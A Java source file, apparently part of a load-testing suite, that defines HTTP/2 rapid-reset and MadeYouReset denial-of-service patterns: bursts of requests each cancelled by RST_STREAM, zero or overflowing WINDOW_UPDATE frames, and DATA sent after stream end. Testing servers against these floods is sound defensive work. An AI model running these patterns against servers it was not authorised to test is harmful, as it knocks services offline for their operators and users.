package dev.medley.loadtest.attack;

import static dev.medley.loadtest.attack.Steps.attack;

import dev.medley.loadtest.attack.Http2Client.Plan;
import java.time.Duration;
import java.util.List;

/** Attacks over HTTP/2 whose streams end as soon as the server has begun to work: rapid reset and MadeYouReset, in each state. */
final class Http2Resets {

    private static final int AT_ONCE = 100;
    private static final int LARGEST = Integer.MAX_VALUE;
    private static final byte[] WAITING = Steps.get(Targets.WAITING);
    private static final byte[] ENDLESS = Steps.get(Targets.ENDLESS);
    private static final byte[] POST = Steps.post().bytes();

    private Http2Resets() {}

    static List<Attack> all() {
        return List.of(
                made("h2-rapid-reset", "RST_STREAM behind each request", client -> {
                    client.frames().headers(client.open(), WAITING, true).reset(client.last());
                }),
                attack(
                        "h2-paced-reset",
                        "100 requests a second and connection, with RST_STREAM behind each",
                        Plan.of()
                                .round(client -> client.frames()
                                        .headers(client.open(), WAITING, true)
                                        .reset(client.last()))
                                .pause(Duration.ofMillis(10))),
                made(
                        "h2-reset-in-head",
                        "RST_STREAM in the middle of header fields",
                        client -> client.frames()
                                .frame(FrameWriter.HEADERS, 0, client.open(), WAITING)
                                .reset(client.last())),
                made(
                        "h2-reset-in-body",
                        "RST_STREAM in the middle of a body",
                        client -> client.frames()
                                .headers(client.open(), POST, false)
                                .frame(FrameWriter.DATA, 0, client.last(), new byte[1])
                                .reset(client.last())),
                attack(
                        "h2-reset-in-reply",
                        "RST_STREAM when a streamed reply has begun",
                        Plan.of().round(Http2Resets::resetReplies)),
                attack(
                        "h2-reset-waiting",
                        "RST_STREAM for 100 requests that have waited for 100 ms",
                        Plan.of().round(Http2Resets::resetAll).pause(Duration.ofMillis(100))),
                made(
                        "h2-made-you-reset-zero",
                        "WINDOW_UPDATE of 0 behind each request",
                        client -> client.frames()
                                .headers(client.open(), WAITING, true)
                                .windowUpdate(client.last(), 0)),
                made(
                        "h2-made-you-reset-window",
                        "a window beyond 2^31-1 behind each request",
                        client -> client.frames()
                                .headers(client.open(), WAITING, true)
                                .windowUpdate(client.last(), LARGEST)
                                .windowUpdate(client.last(), LARGEST)),
                made(
                        "h2-made-you-reset-data",
                        "DATA behind the end of each request",
                        client -> client.frames()
                                .headers(client.open(), WAITING, true)
                                .frame(FrameWriter.DATA, 0, client.last(), new byte[1])));
    }

    private static Attack made(String name, String what, Http2Client.Step each) {
        return attack(name, what, Plan.of().round(client -> {
            for (int i = 0; i < AT_ONCE; i++) {
                each.send(client);
                client.over(client.last());
            }
        }));
    }

    private static void resetReplies(Http2Client client) {
        for (int stream = client.takeBegun(); stream != 0; stream = client.takeBegun()) {
            client.frames().reset(stream);
            client.over(stream);
        }
        Steps.fill(client, ENDLESS);
    }

    private static void resetAll(Http2Client client) {
        for (int stream = client.last() - 2 * (AT_ONCE - 1); stream > 0 && stream <= client.last(); stream += 2) {
            client.frames().reset(stream);
            client.over(stream);
        }
        Steps.gets(client, WAITING, AT_ONCE);
    }
}
